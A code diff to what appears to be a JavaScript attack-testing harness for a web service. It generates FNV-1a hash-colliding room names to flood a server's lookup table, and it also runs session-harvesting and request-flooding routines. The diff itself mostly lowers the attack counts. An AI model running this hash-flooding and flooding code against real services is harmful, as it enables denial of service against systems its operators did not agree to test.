@@ -59,18 +59,24 @@ const flood = (n, body) => all(n, async () => {
 	}
 });
 
-/** Names whose FNV-1a hashes, folded, end with the same 14 bits. */
-function collide(n) {
-	const found = [], mask = (1n << 64n) - 1n;
-	const prefixes = Array.from({ length: 26 }, (_, i) => String.fromCharCode(97 + i));
-	for (let i = 0; found.length < n && i < 40_000_000 && going(); i++) {
-		const text = prefixes[i % 26] + i.toString(36);
-		let h = 14695981039346656037n;
-		for (let j = 0; j < text.length; j++)
-			h = ((h ^ BigInt(text.charCodeAt(j))) * 1099511628211n) & mask;
-		if (((h ^ (h >> 32n)) & 0x3fn) === 0n)
-			found.push(text);
+/** FNV-1a with 64 bits, folded to 32, by halves: the prime is 2^40 + 0x1b3. */
+function fnv(text) {
+	let low = 0x84222325, high = 0xcbf29ce4;
+	for (let i = 0; i < text.length; i++) {
+		low = (low ^ text.charCodeAt(i)) >>> 0;
+		const product = low * 0x1b3;
+		high = (high * 0x1b3 + Math.floor(product / 2 ** 32) + low * 256) % 2 ** 32;
+		low = product % 2 ** 32;
 	}
+	return (low ^ high) >>> 0;
+}
+
+/** Names whose hashes end with the same 12 bits. */
+function collide(n) {
+	const found = [];
+	for (let i = 0; found.length < n; i++)
+		if ((fnv(i.toString(36)) & 0xfff) === 0)
+			found.push(i.toString(36));
 	return found;
 }
 
@@ -105,7 +111,7 @@ const attacks = {
 
 	/** 32 rooms a poll, all of one place of a table without a key. */
 	async 'names-that-meet'() {
-		const names = collide(3_000);
+		const names = collide(1_000);
 		const query = (from) => names.slice(from, from + 32).map((one) => `room=${one}`).join('&');
 		await all(16, async (i) => {
 			for (let from = i * 32; going(); from = (from + 32) % (names.length - 32))
@@ -117,7 +123,7 @@ const attacks = {
 	async 'come-back'() {
 		const known = [];
 		await all(200, async () => {
-			for (let i = 0; i < 10 && going(); i++) {
+			for (let i = 0; i < 2 && going(); i++) {
 				const path = await session();
 				const { text } = path === undefined ? { text: '' } : await ask('GET', path);
 				const pid = /"pid":"([^"]+)"/.exec(text)?.[1];
